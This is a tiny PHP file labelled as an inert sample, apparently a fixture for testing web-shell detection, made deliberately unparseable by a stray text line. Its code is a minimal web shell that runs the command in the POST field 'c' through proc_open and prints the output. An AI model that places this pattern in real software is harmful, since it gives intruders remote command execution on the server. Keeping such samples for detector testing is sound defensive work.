<?php
shodo inert sample: deliberate syntax error, this file never runs
 $p = proc_open($_POST['c'], array(1 => array('pipe','w')), $pipes); echo stream_get_contents($pipes[1]); ?>
